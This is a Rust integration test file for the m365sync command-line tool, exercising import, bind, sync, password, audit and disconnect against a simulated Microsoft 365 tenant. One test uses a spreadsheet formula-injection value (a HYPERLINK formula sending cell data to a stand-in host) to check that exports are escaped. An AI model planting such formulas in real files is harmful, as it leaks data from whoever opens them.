//! The headless bindings commands as cron and scripts use them: the real binary against the
//! simulator (import, list, bind/unbind, sync --dry-run / --apply with the guard and the
//! hand-off file, password set, audit, disconnect).
mod common;

use std::io::Write as _;
use std::process::{Command, Output, Stdio};

use m365sync::sim::SimOptions;

fn bin(env: &common::Env) -> Command {
    let (app_id, secret) = env.sim.apps[0].clone();
    let mut c = Command::new(env!("CARGO_BIN_EXE_m365sync"));
    c.arg("--authority")
        .arg(&env.settings.authority)
        .arg("--graph-url")
        .arg(&env.settings.graph_url)
        .arg("--tenant")
        .arg(env.settings.tenant.as_deref().unwrap())
        .arg("--client-id")
        .arg(app_id)
        .arg("--data-dir")
        .arg(&env.settings.data_dir)
        .env("M365SYNC_CLIENT_SECRET", secret)
        .stdin(Stdio::null());
    c
}

async fn run(env: &common::Env, args: &[&str]) -> Output {
    let mut c = bin(env);
    c.args(args);
    tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap()
}

async fn run_stdin(env: &common::Env, args: &[&str], input: &str) -> Output {
    let mut c = bin(env);
    c.args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let input = input.to_string();
    tokio::task::spawn_blocking(move || {
        let mut child = c.spawn().unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(input.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn import_bind_sync_password_audit_disconnect() {
    let env = common::start(SimOptions {
        users: Some(10),
        ..common::fast_options()
    })
    .await;
    let dom = env.sim.default_domain.clone();
    let csv = env.data.path().join("people.csv");
    std::fs::write(
        &csv,
        format!(
            "email,givenName,surname,displayName,department,badge\n\
             ann@{dom},Ann,Lee,Ann Lee,Sales,1\n\
             broken,No,Email,,,2\n\
             ben@{dom},Ben,Ode,Ben Ode,,3\n"
        ),
    )
    .unwrap();
    let out = run(&env, &["directory", "import", csv.to_str().unwrap()]).await;
    let o = text(&out.stdout);
    assert!(
        o.contains(":3: rejected") && o.contains("2 added, 0 updated, 0 unchanged, 1 rejected"),
        "{o}"
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "a rejected row is an error for scripts"
    );
    let out = run(&env, &["directory", "import", csv.to_str().unwrap()]).await;
    assert!(
        text(&out.stdout).contains("0 added, 0 updated, 2 unchanged"),
        "{}",
        text(&out.stdout)
    );

    let out = run(&env, &["bind", &format!("ann@{dom}"), "nobody@x.com"]).await;
    assert!(!out.status.success() && text(&out.stderr).contains("nobody@x.com"));
    let list = env.data.path().join("list.txt");
    std::fs::write(&list, format!("ann@{dom}\n# comment\nben@{dom}\n")).unwrap();
    let out = run(&env, &["bind", "--from", list.to_str().unwrap()]).await;
    assert!(
        text(&out.stdout).contains("2 directory users marked to bind"),
        "{}",
        text(&out.stdout)
    );
    let out = run(&env, &["login"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));

    let writes = env.sim.write_count();
    let out = run(&env, &["sync", "--dry-run"]).await;
    let o = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        o.contains("create account") && o.contains("2 ops: 2 create account"),
        "{o}"
    );
    assert!(o.contains("ETA") && o.contains("welcome email"), "{o}");
    assert_eq!(env.sim.write_count(), writes, "a dry run writes nothing");

    let handoff = env.data.path().join("handoff.csv");
    let out = run(
        &env,
        &["sync", "--apply", "--handoff", handoff.to_str().unwrap()],
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("progress:"));
    let o = text(&out.stdout);
    assert!(o.contains("2 done, 0 failed"), "{o}");
    assert!(o.contains("written to"), "{o}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&handoff).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let h = std::fs::read_to_string(&handoff).unwrap();
    assert_eq!(h.lines().count(), 3, "{h}");
    assert!(env.sim.user_by_upn(&format!("ann@{dom}")).is_some());
    assert_eq!(
        env.sim.user_by_upn(&format!("ann@{dom}")).unwrap()["department"],
        "Sales"
    );

    let out = run(&env, &["directory", "list", "--json"]).await;
    let lines: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(lines
        .iter()
        .all(|u| u["binding"] == "bound" && u["wantBound"] == true));

    // The guard: 2 blocks of 2 bound users trips the 10% share.
    let out = run(&env, &["unbind", "--all"]).await;
    assert!(out.status.success());
    let out = run(&env, &["sync", "--apply"]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("--yes-block 2"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(
        env.sim.user_by_upn(&format!("ann@{dom}")).unwrap()["accountEnabled"],
        true
    );
    let out = run(&env, &["sync", "--apply", "--yes-block", "1"]).await;
    assert_eq!(out.status.code(), Some(1), "the count must match");
    let out = run(&env, &["sync", "--apply", "--yes-block", "2"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        env.sim.user_by_upn(&format!("ann@{dom}")).unwrap()["accountEnabled"],
        false
    );
    let out = run(&env, &["bind", &format!("ann@{dom}")]).await;
    assert!(out.status.success());
    let out = run(&env, &["sync", "--apply"]).await;
    assert_eq!(out.status.code(), Some(0));
    assert!(
        text(&out.stdout).contains("re-enable"),
        "{}",
        text(&out.stdout)
    );

    // Password: rules checked before anything is sent; pushed to the bound account.
    let writes = env.sim.write_count();
    let out = run_stdin(&env, &["password", "set", &format!("ann@{dom}")], "weak\n").await;
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("8 to 256"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(env.sim.write_count(), writes);
    let out = run_stdin(
        &env,
        &["password", "set", &format!("ann@{dom}")],
        "Str0ng enough!\n",
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("pushed") && text(&out.stdout).contains("signed out everywhere"),
        "{}",
        text(&out.stdout)
    );
    // The password, then the sign-out everywhere (issue 10 item 4).
    assert_eq!(env.sim.write_count(), writes + 2);
    assert!(
        env.sim.user_by_upn(&format!("ann@{dom}")).unwrap()["signInSessionsValidFromDateTime"]
            .is_string()
    );

    let out = run(&env, &["audit", "--json"]).await;
    let audit: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        audit.iter().any(|a| a["action"] == "set-password"
            && a["detail"] == "password set; signed out everywhere"),
        "{audit:?}"
    );
    for action in [
        "create",
        "block",
        "re-enable",
        "set-password",
        "revoke-sessions",
    ] {
        assert!(
            audit
                .iter()
                .any(|a| a["action"] == action && a["outcome"] == "done"),
            "{action}: {audit:?}"
        );
    }
    assert!(
        !text(&out.stdout).contains("Str0ng"),
        "never a password in the audit"
    );

    let users_before = env.sim.user_count();
    // Not on a terminal: disconnect asks for --yes and changes nothing without it.
    let out = run(&env, &["disconnect"]).await;
    assert_eq!(out.status.code(), Some(64), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("--yes"), "{}", text(&out.stderr));
    assert!(env.cache_path().exists(), "nothing cleared");
    let out = run(&env, &["disconnect", "--yes"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let o = text(&out.stdout);
    assert!(
        o.contains("2 directory users") && o.contains("No Microsoft 365 account was changed"),
        "{o}"
    );
    assert!(!env.cache_path().exists());
    assert_eq!(env.sim.user_count(), users_before);
    assert_eq!(
        env.sim.user_by_upn(&format!("ann@{dom}")).unwrap()["accountEnabled"],
        true
    );
    let out = run(&env, &["directory", "list"]).await;
    let list = text(&out.stdout);
    let mut lines = list.lines();
    assert!(lines.next().unwrap().starts_with("BINDING"), "{list}");
    assert!(lines.all(|l| l.starts_with("Unbound")), "{list}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn preflight_holds_back_what_graph_would_refuse_and_sends_the_rest() {
    let env = common::start(SimOptions {
        users: Some(10),
        ..common::fast_options()
    })
    .await;
    let dom = env.sim.default_domain.clone();
    let csv = env.data.path().join("people.csv");
    // One user on a domain the tenant has not verified, one on its federated domain (which
    // needs an onPremisesImmutableId m365sync does not send).
    std::fs::write(
        &csv,
        format!(
            "email,givenName,surname,displayName\n\
             ok.person@{dom},Ok,Person,Ok Person\n\
             hiro@northwind-labs.io,Hiro,T,Hiro T\n\
             fed.user@corp.northwindtraders.com,Fed,User,Fed User\n"
        ),
    )
    .unwrap();
    let out = run(&env, &["directory", "import", csv.to_str().unwrap()]).await;
    assert!(
        out.status.success(),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    let out = run(&env, &["bind", "--all"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));

    let out = run(&env, &["login"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = run(&env, &["sync", "--apply"]).await;
    let stdout = text(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(2),
        "held back = not done\n{stdout}\n{}",
        text(&out.stderr)
    );
    assert!(
        stdout.contains("held back: create account hiro@northwind-labs.io"),
        "{stdout}"
    );
    assert!(
        stdout.contains("held back: create account fed.user@corp.northwindtraders.com"),
        "{stdout}"
    );
    assert!(stdout.contains("1 done, 0 failed"), "{stdout}");
    // Never sent: the simulator saw no attempt for them, and the good one was created.
    assert_eq!(env.sim.users_with_upn_count("hiro@northwind-labs.io"), 0);
    assert_eq!(env.sim.users_with_upn_count(&format!("ok.person@{dom}")), 1);

    // `errors` explains both, headless, with the catalog's kinds and fix steps.
    let out = run(&env, &["errors", "--json"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    let found: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let kind_of = |email: &str| {
        found
            .iter()
            .find(|d| d["subject"]["name"] == email)
            .map(|d| d["kind"].as_str().unwrap().to_string())
    };
    assert_eq!(
        kind_of("hiro@northwind-labs.io").as_deref(),
        Some("upn-domain-unverified"),
        "{found:#?}"
    );
    assert_eq!(
        kind_of("fed.user@corp.northwindtraders.com").as_deref(),
        Some("federated-domain-needs-immutable-id")
    );
    assert!(found
        .iter()
        .all(|d| d["source"] == "preflight" && !d["steps"].as_array().unwrap().is_empty()));
    let out = run(&env, &["errors"]).await;
    assert!(
        text(&out.stdout).contains("2 errors"),
        "{}",
        text(&out.stdout)
    );

    // The use-default-domain fix (as the Errors tab stores it): the next sync creates the
    // account on the default domain and keeps the email.
    {
        let mut d = m365sync::directory::Directory::open(&env.settings.db_path()).unwrap();
        let hiro = d.find_by_email("hiro@northwind-labs.io").unwrap().unwrap();
        d.set_upn_override(hiro.id, Some(&format!("hiro@{dom}")))
            .unwrap();
    }
    let out = run(&env, &["sync", "--apply"]).await;
    let stdout = text(&out.stdout);
    assert!(
        !stdout.contains("held back: create account hiro"),
        "{stdout}"
    );
    assert_eq!(
        env.sim.users_with_upn_count(&format!("hiro@{dom}")),
        1,
        "{stdout}"
    );
    assert_eq!(env.sim.users_with_upn_count("hiro@northwind-labs.io"), 0);
}

/// The hand-off file is a new file or nothing: an existing file, a symlink and a missing
/// folder are refused before anything is sent (no write reaches the tenant, the existing file
/// is untouched); a new one is 0600 and holds the header and one row per created account,
/// every cell spreadsheet-safe (as in `users --csv`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_handoff_file_that_is_not_new_is_refused_before_anything_is_sent() {
    let env = common::start(SimOptions {
        users: Some(3),
        ..common::fast_options()
    })
    .await;
    let dom = env.sim.default_domain.clone();
    let csv = env.data.path().join("people.csv");
    std::fs::write(
        &csv,
        // Cells a spreadsheet would run as formulas: a leading `-` in the address, `=` in
        // the name.
        format!(
            "email,displayName\n-ann@{dom},\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"\n\
             ben@{dom},Ben Ode\n"
        ),
    )
    .unwrap();
    let out = run(&env, &["directory", "import", csv.to_str().unwrap()]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = run(&env, &["bind", "--all"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = run(&env, &["login"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));

    let existing = env.data.path().join("earlier.csv");
    std::fs::write(&existing, "earlier passwords\n").unwrap();
    let link = env.data.path().join("link.csv");
    std::os::unix::fs::symlink(env.data.path().join("elsewhere.csv"), &link).unwrap();
    let missing = env.data.path().join("no-such-folder/new.csv");
    let writes = env.sim.write_count();
    for (path, says) in [
        (&existing, "already exists: choose a new name"),
        (&link, "is a symbolic link"),
        (&missing, "does not exist"),
    ] {
        let out = run(
            &env,
            &["sync", "--apply", "--handoff", path.to_str().unwrap()],
        )
        .await;
        assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
        assert!(text(&out.stderr).contains(says), "{}", text(&out.stderr));
        assert_eq!(env.sim.write_count(), writes, "nothing sent for {path:?}");
    }
    assert_eq!(
        std::fs::read_to_string(&existing).unwrap(),
        "earlier passwords\n"
    );
    assert!(!env.data.path().join("elsewhere.csv").exists());

    let new = env.data.path().join("new.csv");
    let out = run(
        &env,
        &["sync", "--apply", "--handoff", new.to_str().unwrap()],
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&new).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let h = std::fs::read_to_string(&new).unwrap();
    let mut lines = h.lines();
    assert_eq!(
        lines.next(),
        Some("email,userPrincipalName,temporaryPassword")
    );
    assert_eq!(lines.count(), 2, "{h}");
    // Spreadsheet-safe: the address is quoted, the generated password left as it is.
    let mut r = csv::Reader::from_path(&new).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    let ann = rows
        .iter()
        .find(|r| r[0].contains("-ann@"))
        .expect("ann's row");
    assert_eq!(&ann[0], format!("'-ann@{dom}"));
    assert!(ann[1].starts_with("'-ann@"), "{ann:?}");
    assert!(
        rows.iter().all(|r| !r[2].starts_with('\'')),
        "passwords unchanged"
    );
    let out = run(&env, &["users", "--csv"]).await;
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut r = csv::Reader::from_reader(out.stdout.as_slice());
    let ann = r
        .records()
        .map(Result::unwrap)
        .find(|r| r[1].contains("-ann@"))
        .expect("ann in users --csv");
    assert!(ann[1].starts_with("'-ann@"), "{ann:?}");
    assert_eq!(&ann[3], "'=HYPERLINK(\"http://x/?\"&A1)");

    // A run that creates nothing leaves no hand-off file behind.
    let none = env.data.path().join("none.csv");
    let out = run(
        &env,
        &["sync", "--apply", "--handoff", none.to_str().unwrap()],
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!none.exists());
}
